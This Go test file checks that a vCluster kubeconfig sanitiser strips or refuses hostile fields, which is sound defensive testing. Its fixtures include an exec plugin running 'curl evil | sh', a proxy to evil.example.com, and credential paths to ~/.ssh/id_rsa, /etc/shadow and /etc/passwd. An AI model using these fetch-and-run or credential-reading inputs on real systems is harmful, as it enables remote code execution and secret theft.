package vcluster

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/client-go/tools/clientcmd"
)

// exported is a kubeconfig as vCluster exports it, with user fields and cluster extras as given.
func exported(user, clusterExtra string) string {
	return `apiVersion: v1
kind: Config
clusters:
- name: my-vcluster
  cluster:
    server: https://attacker.example.com:443
    certificate-authority-data: Q0E=` + clusterExtra + `
contexts:
- name: my-vcluster
  context: {cluster: my-vcluster, user: my-vcluster}
current-context: my-vcluster
users:
- name: my-vcluster
  user:
` + user
}

const certUser = "    client-certificate-data: Q0VSVA==\n    client-key-data: S0VZ\n"

func TestTheExportedKubeconfigIsRebuiltFromPinnedParts(t *testing.T) {
	for _, c := range []struct {
		name, raw, server, wantErr string
	}{
		{name: "a client certificate, the platform's server instead of the Secret's", raw: exported(certUser, ""),
			server: "https://team-a.vc.example.com"},
		{name: "vCluster's own server when the platform sets none", raw: exported(certUser, "")},
		{name: "a token", raw: exported("    token: abc\n", ""), server: "https://team-a.vc.example.com"},
		{name: "an exec plugin beside the certificate is dropped",
			raw: exported(certUser+"    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}\n", "")},
		{name: "a proxy and a TLS server name are dropped", raw: exported(certUser, "\n    proxy-url: http://evil.example.com:3128\n    tls-server-name: evil")},
		{name: "an exec plugin alone is refused", raw: exported("    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh}\n", ""),
			wantErr: "holds no inline client certificate or token"},
		{name: "credentials read from files are refused",
			raw: exported("    client-certificate: /home/operator/.ssh/id_rsa\n    client-key: /etc/shadow\n", ""), wantErr: "no inline client certificate"},
		{name: "a CA read from a file is refused", raw: strings.Replace(exported(certUser, ""), "certificate-authority-data: Q0E=",
			"certificate-authority: /etc/passwd", 1), wantErr: "no inline CA"},
		{name: "garbage is refused", raw: "{{{", wantErr: "does not parse"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := pinnedKubeconfig([]byte(c.raw), c.server, "team-a")
			if c.wantErr != "" {
				require.ErrorContains(t, err, c.wantErr)
				assert.Contains(t, err.Error(), "tenant team-a")
				return
			}
			require.NoError(t, err)
			cfg, err := clientcmd.Load([]byte(got))
			require.NoError(t, err)
			want := c.server
			if want == "" {
				want = "https://localhost:8443"
			}
			require.Len(t, cfg.Clusters, 1)
			require.Len(t, cfg.AuthInfos, 1)
			for _, cl := range cfg.Clusters {
				assert.Equal(t, want, cl.Server)
				assert.Equal(t, []byte("CA"), cl.CertificateAuthorityData)
				assert.Empty(t, cl.ProxyURL)
				assert.Empty(t, cl.TLSServerName)
				assert.Empty(t, cl.CertificateAuthority)
			}
			for _, u := range cfg.AuthInfos {
				assert.Nil(t, u.Exec)
				assert.Nil(t, u.AuthProvider)
				assert.Empty(t, u.ClientCertificate)
				assert.Empty(t, u.TokenFile)
			}
			assert.NotContains(t, got, "attacker.example.com")
			assert.NotContains(t, got, "evil")
		})
	}
}

func TestWhatTheTenantWroteInPlaceOfItsKubeconfigIsWarnedOfAndNotExported(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, c := range []struct {
		name        string
		data        map[string]string
		wantProblem string
	}{
		{name: "vCluster's own export", data: map[string]string{KubeconfigSecretKey: b64(exported(certUser, ""))}},
		{name: "the key removed", data: map[string]string{"other": b64("x")}, wantProblem: `has no key "config"`},
		{name: "not base64", data: map[string]string{KubeconfigSecretKey: "%%%"}, wantProblem: "decoding kubeconfig Secret"},
		{name: "garbage", data: map[string]string{KubeconfigSecretKey: b64("{{{")}, wantProblem: "does not parse"},
		{name: "an exec plugin alone", data: map[string]string{KubeconfigSecretKey: b64(exported(
			"    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh}\n", ""))}, wantProblem: "no inline client certificate"},
	} {
		t.Run(c.name, func(t *testing.T) {
			config, problem := exportedKubeconfig(c.data, "vc-team-a", "", "team-a")
			if c.wantProblem == "" {
				assert.Empty(t, problem)
				assert.NotEmpty(t, config)
				return
			}
			assert.Empty(t, config, "nothing of what the tenant wrote is exported")
			assert.Contains(t, problem, c.wantProblem)
			assert.Contains(t, problem, "tenant team-a")
		})
	}
}
